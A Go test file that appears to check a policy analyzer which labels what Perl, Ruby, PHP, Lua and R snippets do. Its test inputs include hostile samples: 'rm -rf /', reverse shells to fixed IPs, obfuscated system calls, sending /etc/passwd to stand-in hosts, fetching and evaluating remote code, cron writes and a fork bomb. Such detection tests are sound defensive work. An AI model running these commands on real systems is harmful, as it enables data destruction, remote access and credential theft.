package script

import (
	"testing"

	"github.com/sluice-project/sluice/policy/program/library"
)

func TestPerl(t *testing.T) {
	check(t, library.Perl, []sample{
		{`system("rm -rf /"); exec 'ls', '-l';`, []string{"shell rm -rf /", "argv ls|-l"}},
		{"print `id`; my $x = qx{cat /etc/passwd};", []string{"shell id", "shell cat /etc/passwd"}},
		{`unlink $_ for glob("/etc/*");`, []string{"delete /etc/*"}},
		{`unlink </etc/*>;`, []string{"delete /etc/*"}},
		{`use File::Path; rmtree("/home/u"); remove_tree $ENV{HOME}."/x";`, []string{"delete /home/u recursive", "delete ~/x recursive"}},
		{`my $d="/"; foreach my $x (qw(etc usr)) { system("rm -rf $d$x"); }`, []string{"shell rm -rf /etc", "shell rm -rf /usr"}},
		{`open(F,">/etc/passwd"); print F "x"; close F;`, []string{"write /etc/passwd content x"}},
		{`open(my $fh, '<', 'a.txt') or die; while(<$fh>){print}`, []string{"read a.txt"}},
		{`open(P, "cat /etc/passwd|"); open(Q, "|sh"); open(my $r, '-|', 'ls', '-l');`, []string{"shell cat /etc/passwd", "shell sh", "argv ls|-l"}},
		{`eval(decode_base64("c3lzdGVtKCdpZCcp"));`, []string{"shell id"}},
		{`system(pack("H*","6964"));`, []string{"shell id hidden hex"}},
		{`s/x/system("id")/e`, []string{"shell id"}},
		{`find(sub{unlink $File::Find::name}, '/home/u');`, []string{"delete /home/u recursive"}},
		{`getstore("http://x/a","/tmp/a");`, []string{"fetch http://x/a", "write /tmp/a from http://x/a"}},
		{`socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4242,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");`, []string{"connect 10.0.0.1:4242", "shell /bin/sh -i", "reverse-shell 10.0.0.1:4242"}},
		{`my @c = ("rm", "-rf"); push @c, "/"; system(@c);`, []string{"argv rm|-rf|/"}},
		{`$c=new IO::Socket::INET(PeerAddr,"1.2.3.4:44");STDIN->fdopen($c,r);system$_ while<>;`, []string{"connect 1.2.3.4:44", "shell ${_} ?", "reverse-shell 1.2.3.4:44"}},
		{`fork while fork`, []string{"exhaust fork"}},
		{`s/foo/bar/g; print "hello\n" if $x =~ /system\("id"\)/; my %h=(a=>1); print $h{a};`, []string{}},
		{`print join(",", map { $_ * 2 } @F[0..3]), "\n"; $n++ while <STDIN>;`, []string{}},
		{"# system('id')\n=pod\n\nsystem('id')\n\n=cut\nprint 1;\n__END__\nsystem('id')", []string{}},
	})
}

func TestRuby(t *testing.T) {
	check(t, library.Ruby, []sample{
		{`system "rm -rf /"`, []string{"shell rm -rf /"}},
		{"`id`; %x(ls -l); spawn('a', 'b')", []string{"shell id", "shell ls -l", "argv a|b"}},
		{`FileUtils.rm_rf('/home/u'); FileUtils.rm_r Dir.glob('/etc/*')`, []string{"delete /home/u recursive", "delete /etc/* recursive"}},
		{`require 'fileutils'; include FileUtils; rm_rf '/'`, []string{"delete / recursive"}},
		{`Dir.glob('/etc/*').each { |f| File.delete(f) }`, []string{"delete /etc/*"}},
		{`Dir["/etc/*"].each{|f| FileUtils.rm_rf f}`, []string{"delete /etc/* recursive"}},
		{`c = ["rm"]; c << "-rf"; c.push("/"); system(*c)`, []string{"argv rm|-rf|/"}},
		{"%w[/etc /usr].each do |d|\n  FileUtils.rm_rf(d)\nend", []string{"delete /etc recursive", "delete /usr recursive"}},
		{`FileUtils.rm_rf("#{Dir.home}/x")`, []string{"delete ~/x recursive"}},
		{`File.open('/etc/passwd','a') { |f| f.write('x') }`, []string{"write /etc/passwd content x"}},
		{"File.write('/etc/x', <<~EOS)\n  hello\nEOS\nsystem('id')", []string{"write /etc/x content   hello", "shell id"}},
		{`eval(Base64.decode64('c3lzdGVtKCdpZCcp')); eval('c3lzdGVtKCdpZCcp'.unpack1('m'))`, []string{"shell id", "shell id"}},
		{`eval(URI.open('http://x/y.rb').read)`, []string{"fetch http://x/y.rb", "eval http://x/y.rb"}},
		{`Kernel.send(:system, 'id'); Kernel.method(:system).call('ls')`, []string{"shell id", "shell ls"}},
		{`IO.popen(["rm","-rf","/"]); open("|id"); Open3.capture2('ls')`, []string{"argv rm|-rf|/", "shell id", "shell ls"}},
		{`s=TCPSocket.new("10.0.0.1",4242);exec sprintf("/bin/sh -i <&%d",s)`, []string{"connect 10.0.0.1:4242", "shell /bin/sh -i <&${x} ?", "reverse-shell 10.0.0.1:4242"}},
		{`Net::HTTP.post(URI('https://e'), File.read('/etc/passwd'))`, []string{"read /etc/passwd", "send https://e from /etc/passwd"}},
		{`puts [1,2,3].sum; x = {a: 1}; puts x[:a]; arr.delete(3); puts "a" =~ /b/ ? 1 : 2`, []string{}},
		{`require 'json'; puts JSON.parse(File.read('package.json'))['version']`, []string{"read package.json"}},
	})
}

func TestPHP(t *testing.T) {
	check(t, library.PHP, []sample{
		{`system('rm -rf /'); unlink("/etc/passwd");`, []string{"shell rm -rf /", "delete /etc/passwd"}},
		{`$f='sys'.'tem'; $f('id'); SYSTEM('ls'); \exec("pwd");`, []string{"shell id", "shell ls", "shell pwd"}},
		{`eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); eval(strrev(';)"di"(metsys'));`, []string{"shell id", "shell id"}},
		{`array_map('unlink', glob('/etc/*')); call_user_func('system', 'id');`, []string{"delete /etc/*", "shell id"}},
		{"$x=`id`; echo file_get_contents('http://x/y');", []string{"shell id", "fetch http://x/y"}},
		{`$d="/etc"; system("rm -rf $d/x {$d}");`, []string{"shell rm -rf /etc/x /etc"}},
		{`$ch=curl_init('http://e'); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('/etc/passwd')); curl_exec($ch);`, []string{"read /etc/passwd", "send http://e from /etc/passwd"}},
		{`file_put_contents('/etc/cron.d/x', "sh\n");`, []string{"write /etc/cron.d/x content sh"}},
		{`$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");`, []string{"connect 10.0.0.1:4242", "shell /bin/sh -i <&3 >&3 2>&3", "reverse-shell 10.0.0.1:4242"}},
		{`foreach (['a','b'] as $d) { rmdir($d); }`, []string{"delete a", "delete b"}},
		{`function f($p) { unlink($p); } f('/etc/x');`, []string{"delete /etc/x"}},
		{`<?php system("id"); ?> <b>system("x")</b> <?= shell_exec("ls") ?>`, []string{"shell id", "shell ls"}},
		{`include 'http://e/x.php'; require $f;`, []string{"eval http://e/x.php", "run ${f} ?"}},
		{`$pdo->query("DROP TABLE users");`, []string{"query DROP TABLE users"}},
		{`echo json_encode(['a'=>1]); echo phpversion(), PHP_EOL; // system('id')`, []string{}},
	})
}

func TestLuaAndR(t *testing.T) {
	check(t, library.Lua, []sample{
		{`os.execute("rm -rf " .. "/")`, []string{"shell rm -rf /"}},
		{`local f = io.open("/etc/passwd","w") f:write("x") f:close()`, []string{"write /etc/passwd content x"}},
		{`os.execute(string.char(105, 100)); load("os.remove('x')")()`, []string{"shell id hidden chr", "delete x"}},
		{"-- os.execute('id')\n--[[ os.execute('id') ]]\nprint([[os.execute('id')]])", []string{}},
	})
	check(t, library.R, []sample{
		{`unlink("/home/u", recursive=TRUE); system("id")`, []string{"delete /home/u recursive", "shell id"}},
		{`p <- file.path("/etc", "x"); file.remove(p)`, []string{"delete /etc/x"}},
		{`eval(parse(text="system('id')")); source("http://e/x.R")`, []string{"shell id", "eval http://e/x.R"}},
		{`x <- c(1,2,3); print(mean(x)) # system("id")`, []string{}},
	})
}
